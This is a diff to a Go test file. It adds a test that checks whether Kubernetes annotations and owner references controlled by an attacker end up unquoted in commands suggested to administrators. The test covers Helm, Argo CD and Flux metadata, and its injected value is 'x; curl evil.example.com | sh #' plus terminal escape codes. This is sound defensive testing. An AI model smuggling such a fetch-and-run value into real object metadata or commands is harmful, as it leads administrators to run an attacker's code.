@@ -2,6 +2,7 @@ package installation
 
 import (
 	"errors"
+	"regexp"
 	"strings"
 	"testing"
 	"time"
@@ -163,6 +164,32 @@ func TestOwnersAreKnownByTheirMarks(t *testing.T) {
 		owners, err := OwnersOf(t.Context(), c, []client.Object{d, d})
 		if err != nil || len(owners) != 1 || owners[0].Name != want {
 			t.Errorf("got %+v and %v, want %s once", owners, err, want)
+		}
+	}
+}
+
+// Administrators type what they are told, and whoever may annotate an object of ours
+// has written a part of it.
+func TestMarksThatAreNoNamesAreNotPartOfCommands(t *testing.T) {
+	const evil = "x; curl evil.example.com | sh #"
+	for name, object := range map[string]metav1.ObjectMeta{
+		"a release of Helm":        {Annotations: map[string]string{"meta.helm.sh/release-name": evil, "meta.helm.sh/release-namespace": "n"}},
+		"the namespace of a chart": {Annotations: map[string]string{"meta.helm.sh/release-name": "r", "meta.helm.sh/release-namespace": evil}},
+		"an application":           {Annotations: map[string]string{"argocd.argoproj.io/tracking-id": evil + ":apps/Deployment:n/d"}},
+		"a Kustomization":          {Annotations: map[string]string{"kustomize.toolkit.fluxcd.io/name": "k", "kustomize.toolkit.fluxcd.io/namespace": "\x1b[2J" + evil}},
+		"who controls it":          {OwnerReferences: []metav1.OwnerReference{{Kind: "\x1b[2J", Name: evil, Controller: new(true)}}},
+	} {
+		d := deploymentOf("c:v1")
+		d.Annotations, d.OwnerReferences = object.Annotations, object.OwnerReferences
+		owners, err := OwnersOf(t.Context(), fake.NewClientBuilder().WithScheme(clientgoscheme.Scheme).Build(), []client.Object{d})
+		if err != nil || len(owners) != 1 {
+			t.Fatalf("%s: got %+v and %v, want one that is told of", name, owners, err)
+		}
+		for _, text := range []string{owners[0].Name, owners[0].Stop, owners[0].After} {
+			unquoted := regexp.MustCompile(`"[^"]*"`).ReplaceAllString(text, "")
+			if strings.Contains(unquoted, "evil") || strings.Contains(text, "\x1b") {
+				t.Errorf("%s: it says %q", name, text)
+			}
 		}
 	}
 }
